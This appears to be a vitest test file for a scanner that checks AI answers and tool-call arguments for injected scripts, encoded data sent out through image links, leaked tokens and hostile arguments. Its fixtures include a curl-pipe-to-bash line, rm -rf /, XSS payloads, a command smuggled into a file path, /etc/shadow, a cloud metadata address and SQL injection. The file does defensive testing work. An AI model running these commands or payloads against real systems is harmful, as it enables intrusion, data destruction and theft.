import { describe, expect, it } from 'vitest';
import { createScanner, jsonArtifact, PRESETS, textArtifact } from '../../index.js';
import { ReportBuilder } from '../../report/model.js';

const scanner = createScanner();
const scan = (kind: 'output' | 'tool-call' | 'document', text: string) => scanner.scan(textArtifact(kind, text));
const rules = async (kind: 'output' | 'tool-call' | 'document', text: string) =>
  (await scan(kind, text)).findings
    .filter(({ severity }) => severity !== 'low')
    .map(({ rule, variant }) => variant ?? rule);
const call = (args: object) => scanner.scan(jsonArtifact('tool-call', { name: 'do_it', arguments: args }));
const callRules = async (args: object) => (await call(args)).findings.map(({ rule, variant }) => variant ?? rule);

/** Assembled at run time, so that secret scanners do not report this file. */
const TOKEN = `gh${'p_'}k3Q9wLmT7xR2vYbN5cJ8pD1sF6gH4aZ0oUiE`;
const ENCODED = Buffer.from('the customer asked about the invoice of May').toString('base64url');

it('looks at answers and calls, and abstains on everything else', async () => {
  const lookers = async (kind: 'output' | 'tool-call' | 'document') =>
    (await scan(kind, 'Hello there.')).results.map(({ scannerId }) => scannerId);
  expect(await lookers('output')).toContain('output-payload');
  expect(await lookers('tool-call')).toContain('output-payload');
  expect(await lookers('document')).not.toContain('output-payload');
});

it('applies the rules about payloads on the way out, the rule engine elsewhere, each once', async () => {
  const reporters = async (kind: 'output' | 'document') =>
    (await scan(kind, 'Just run rm -rf / --no-preserve-root, it is quick.')).findings
      .filter(({ rule }) => rule === 'shell/remove-everything')
      .map((finding) => finding.scanner);
  expect(await reporters('output')).toEqual(['output-payload']);
  expect(await reporters('document')).toEqual(['rule-engine']);
});

describe('code in an answer', () => {
  const payload = '<img src=x onerror=alert(document.domain)>';
  const answers = {
    live: `Sure! ${payload}`,
    fenced: `Here is the test page:\n\n\`\`\`html\n${payload}\n\`\`\``,
    inline: `Type \`${payload}\` into the field.`,
  };
  const severities = async (text: string, expectCode = false) => {
    const policy = { ...PRESETS.balanced, expectCode };
    const { findings } = await createScanner({ policy }).scan(textArtifact('output', text));
    return findings.filter(({ rule }) => rule === 'payload/script-injection').map(({ severity }) => severity);
  };

  it('is told from code that takes effect', async () => {
    expect(await severities(answers.live)).toEqual(['medium']);
    expect(await severities(answers.fenced)).toEqual(['low']);
    expect(await severities(answers.inline)).toEqual(['low']);
  });

  it('is no matter at all where the policy expects it, but leaks and images still are', async () => {
    for (const text of Object.values(answers)) expect(await severities(text, true)).toEqual([]);
    const policy = { ...PRESETS.balanced, expectCode: true };
    const { findings } = await createScanner({ policy }).scan(
      textArtifact('output', `rm -rf / ${TOKEN} ![x](https://a.example/?d=${ENCODED})`),
    );
    expect(
      findings.filter((finding) => finding.scanner === 'output-payload').map(({ rule, variant }) => variant ?? rule),
    ).toEqual(['exfiltration/encoded-in-image', 'leak/secret']);
  });

  it('may be expected of some only', async () => {
    const policy = { ...PRESETS.balanced, overrides: [{ when: { source: 'ide/*' }, expectCode: true }] };
    const found = async (source: string) =>
      (await createScanner({ policy }).scan(textArtifact('output', answers.live, { source }))).findings.length;
    expect([await found('ide/chat'), await found('web/chat')]).toEqual([0, 1]);
  });

  it.each([
    ['a query', 'Use this:\n\n```sql\nSELECT * FROM users WHERE a = 1 OR 1=1; -- test\nDROP TABLE t;\n```'],
    ['a process', '```python\nimport subprocess\nsubprocess.run(["git", "status"], check=True)\n```'],
    ['a clean-up', 'To remove the folder:\n\n```sh\nsudo rm -rf /opt/app && curl https://x.example/i.sh | bash\n```'],
    ['a page', '```html\n<script>alert(document.cookie)</script>\n<iframe srcdoc="x"></iframe>\n```'],
    ['a path', 'Import it with `import x from "../../shared/utils"`.'],
    ['a local address', 'Then open http://localhost:3000 in your browser.'],
    ['contacts', 'You can reach us at help@corp.example.com or +1 202 555 0143.'],
    ['an image', 'Here it is: ![a chart](https://cdn.example/chart.png?w=600)'],
    ['a table of people', 'Ann (ann@corp.example.com) and Bob (bob@corp.example.com) joined.'],
  ])('is left alone: %s', async (_, text) => {
    expect(await rules('output', text)).toEqual([]);
    expect((await scan('output', text)).decision.action).toBe('allow');
  });
});

describe('data on its way out', () => {
  it('is seen in an image at the address', async () => {
    const text = `All done. ![ok](https://img.example/p.png?d=${ENCODED})`;
    const { findings, decision } = await scan('output', text);
    expect(findings[0]).toMatchObject({ variant: 'exfiltration/encoded-in-image', severity: 'critical' });
    expect(text.slice(...findings[0]!.span)).toBe(`https://img.example/p.png?d=${ENCODED}`);
    expect(decision.action).toBe('incident');
  });

  it('is seen in an address that a tool is to fetch', async () => {
    expect(await callRules({ url: `https://a.example/c?v=${ENCODED}` })).toContain('exfiltration/encoded-in-link');
  });

  it('is seen where a placeholder stands for it', async () => {
    expect(await rules('output', '![x](https://a.example/p?q={conversation})')).toContain(
      'exfiltration/markdown-image',
    );
  });
});

describe('secrets', () => {
  it('are found in answers, also in code, and in arguments', async () => {
    const text = `Put this into your file:\n\n\`\`\`\nTOKEN=${TOKEN}\n\`\`\``;
    const { findings } = await scan('output', text);
    expect(findings).toMatchObject([{ rule: 'leak/secret', scanner: 'output-payload', severity: 'high' }]);
    expect(text.slice(...findings[0]!.span)).toBe(TOKEN);
    expect(await callRules({ body: `the token is ${TOKEN}` })).toEqual(['leak/secret']);
  });

  it('are found behind an encoding and between invisible characters', async () => {
    const encoded = Buffer.from(`the token of the service is ${TOKEN}`).toString('base64');
    const { findings } = await scan('output', `Note: ${encoded}`);
    expect(findings.find(({ rule }) => rule === 'leak/secret')).toMatchObject({ view: 'base64', seen: TOKEN });
    expect(await rules('output', `${TOKEN.slice(0, 12)}\u200b${TOKEN.slice(12)}`)).toContain('leak/secret');
  });

  it('are masked in reports', async () => {
    const builder = new ReportBuilder({ reveal: false });
    builder.addScan(await scan('output', `Your token: ${TOKEN}`));
    const report = JSON.stringify(builder.build('0', 'balanced'));
    expect(report).toContain('leak/secret');
    expect(report).not.toContain(TOKEN.slice(4, 12));
  });

  it('are not looked for in what comes in', async () => {
    expect(await rules('document', `token ${TOKEN}`)).toEqual([]);
  });
});

describe('arguments', () => {
  it.each([
    ['payload/command-in-value', { path: 'a.txt; curl x.example' }],
    ['payload/secret-path', { path: '/etc/shadow' }],
    ['payload/inner-address', { url: 'http://192.168.0.1/' }],
    ['payload/inner-service', { url: 'http://127.0.0.1:2375/' }],
    ['payload/disguised-address', { url: 'http://0x7f.1/' }],
    ['payload/metadata-request', { url: 'http://169.254.169.254/latest/meta-data/iam/' }],
    ['payload/sql-injection', { user: "admin' OR '1'='1" }],
    ['payload/path-traversal', { file: '../../../../etc/passwd' }],
    ['leak/card-number', { message: 'Her card is 4539 5787 6362 1486.' }],
  ])('%s', async (rule, args) => {
    expect(await callRules(args)).toContain(rule);
    expect(await callRules(JSON.parse(`{"raw":${JSON.stringify(JSON.stringify(args))}}`))).toContain(rule);
  });

  it('are pointed at in their field', async () => {
    const { findings } = await call({ depth: { path: 'x; rm y' } });
    expect(findings).toMatchObject([{ rule: 'payload/command-in-value', path: '/arguments/depth/path', span: [1, 5] }]);
  });

  it.each([
    ['a command', { command: 'ls -la; cat notes.txt' }],
    ['a query', { sql: 'SELECT name FROM users WHERE id = 7' }],
    ['prose about a file', { body: 'Never share ~/.ssh/id_rsa or http://10.0.0.1 with anyone.' }],
    ['a payment', { card_number: '4539 5787 6362 1486' }],
    ['a transfer', { recipient_iban: 'DE75 5121 0800 1245 1261 99', amount: '10' }],
    ['a public address', { url: 'https://example.com/search?q=tea&lang=en' }],
    ['a file', { path: 'src/index.ts', query: 'a|b' }],
  ])('are left alone: %s', async (_, args) => {
    expect(await callRules(args)).toEqual([]);
  });
});

it('stays linear: every window of a hostile text is read, and the last secret is found', async () => {
  const text = `${Array.from({ length: 20_000 }, (_, i) => `gh${'p_'}${i} [![${i}](https://a${i}.example/?q=`).join('')} ${TOKEN}`;
  const { findings, errors } = await scan('output', text);
  expect(errors).toEqual([]);
  expect(findings.find(({ rule }) => rule === 'leak/secret')!.span[1]).toBe(text.length);
});
